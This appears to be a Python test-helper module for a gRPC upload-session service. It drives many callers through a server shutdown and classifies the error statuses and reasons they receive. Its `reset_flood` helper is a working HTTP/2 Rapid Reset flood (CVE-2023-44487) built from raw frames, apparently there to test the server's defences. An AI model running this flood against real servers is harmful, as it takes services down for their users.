"""Callers that continue to call while a server stops, and the results of their calls."""

from __future__ import annotations

import asyncio
import socket
import struct
import threading
from collections import Counter
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager, contextmanager
from typing import Any

import grpc
from google.rpc import error_details_pb2, status_pb2

from attachery.v1 import upload_sessions_pb2, upload_sessions_pb2_grpc

CALLERS = 96
CONNECTIONS = 16
# As the simplest client: no retry, no health check.
_RAW = (("grpc.use_local_subchannel_pool", 1), ("grpc.enable_retries", 0))
# Failures of each caller, before it leaves.
_FAILURES = 3

# Successful responses, before the server is stopped.
_ENOUGH = 1_000

_METHOD = "/attachery.v1.UploadSessionService/GetUploadSession"
_NEEDED = (
    error_details_pb2.ErrorInfo,
    error_details_pb2.RetryInfo,
    error_details_pb2.RequestInfo,
)


class Outcomes(Counter[str]):
    """How calls ended: OK, UNAVAILABLE with its reason, or any other status."""

    @property
    def wrong(self) -> dict[str, int]:
        """Results that a caller must not see unless it has cancelled the call."""
        good = ("OK", "UNAVAILABLE", "UNAVAILABLE OVERLOADED", "UNAVAILABLE SHUTTING_DOWN")
        return {name: count for name, count in self.items() if name not in good}


def raw_channel(listen: str, roots: bytes | None) -> grpc.aio.Channel:
    """A connection of its own; over TLS with certificates of `roots`, if given."""
    if roots is None:
        return grpc.aio.insecure_channel(listen, options=_RAW)
    return grpc.aio.secure_channel(listen, grpc.ssl_channel_credentials(roots), options=_RAW)


class RawCallers:
    """Many callers on few connections, each calling again as soon as it is answered."""

    def __init__(self, api_key: str, tenant_id: str, attachment_id: str) -> None:
        self.outcomes = Outcomes()
        self.answered = asyncio.Event()
        self._metadata = (("authorization", f"Bearer {api_key}"),)
        self._request = upload_sessions_pb2.GetUploadSessionRequest(
            tenant_id=tenant_id, attachment_id=attachment_id
        )

    @asynccontextmanager
    async def calling(self, listen: str, roots: bytes | None = None) -> AsyncIterator[None]:
        """Begins the block when calls are answered; each caller ends after a few failures."""
        channels = [raw_channel(listen, roots) for _ in range(CONNECTIONS)]
        try:
            async with asyncio.TaskGroup() as group:
                for number in range(CALLERS):
                    group.create_task(self._call_on(channels[number % CONNECTIONS]))
                await self.answered.wait()
                yield
        finally:
            for channel in channels:
                await channel.close()

    async def _call_on(self, channel: grpc.aio.Channel) -> None:
        stub: Any = upload_sessions_pb2_grpc.UploadSessionServiceStub(channel)
        failures = 0
        while failures < _FAILURES:
            try:
                await stub.GetUploadSession(self._request, metadata=self._metadata, timeout=20)
            except grpc.aio.AioRpcError as error:
                failures += 1
                self.outcomes[_name_of(error)] += 1
            else:
                self.outcomes["OK"] += 1
            if self.outcomes["OK"] >= _ENOUGH:
                self.answered.set()


def _name_of(error: grpc.aio.AioRpcError) -> str:
    """The code, and the reason if the server sent one."""
    details = dict(error.trailing_metadata() or ()).get("grpc-status-details-bin")
    if not isinstance(details, bytes):
        return error.code().name
    found = {detail.TypeName(): detail for detail in status_pb2.Status.FromString(details).details}
    info = error_details_pb2.ErrorInfo()
    if packed := found.get(info.DESCRIPTOR.full_name):
        packed.Unpack(info)
    complete = all(kind.DESCRIPTOR.full_name in found for kind in _NEEDED)
    return f"{error.code().name} {info.reason}{'' if complete else ' without all details'}"


@contextmanager
def reset_flood(listen: str) -> Iterator[None]:
    """A client that opens streams and resets them as fast as it can (CVE-2023-44487)."""
    host, _, port = listen.rpartition(":")
    ended = threading.Event()
    thread = threading.Thread(target=_flood, args=(host, int(port), ended))
    thread.start()
    try:
        yield
    finally:
        ended.set()
        thread.join()


def _flood(host: str, port: int, ended: threading.Event) -> None:
    while not ended.is_set():
        try:
            with socket.create_connection((host, port), timeout=1) as connection:
                connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0, b""))
                drain = threading.Thread(target=_discard, args=(connection,))
                drain.start()
                _send_resets(connection, ended)
                connection.shutdown(socket.SHUT_RDWR)
                drain.join()
        except OSError:
            ended.wait(0.01)


def _send_resets(connection: socket.socket, ended: threading.Event) -> None:
    headers = _headers()
    for first in range(1, 2_000_000, 200):
        if ended.is_set():
            return
        connection.sendall(
            b"".join(
                _frame(1, 4, stream, headers) + _frame(3, 0, stream, struct.pack(">I", 8))
                for stream in range(first, first + 200, 2)
            )
        )


def _discard(connection: socket.socket) -> None:
    try:
        while connection.recv(65_536):
            pass
    except OSError:
        pass


def _headers() -> bytes:
    """A block of literal fields, never indexed (RFC 7541, 6.2.3)."""
    fields = {
        ":method": "POST",
        ":scheme": "http",
        ":path": _METHOD,
        ":authority": "localhost",
        "te": "trailers",
        "content-type": "application/grpc",
    }
    return b"".join(
        b"\x10" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
        for name, value in fields.items()
    )


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload
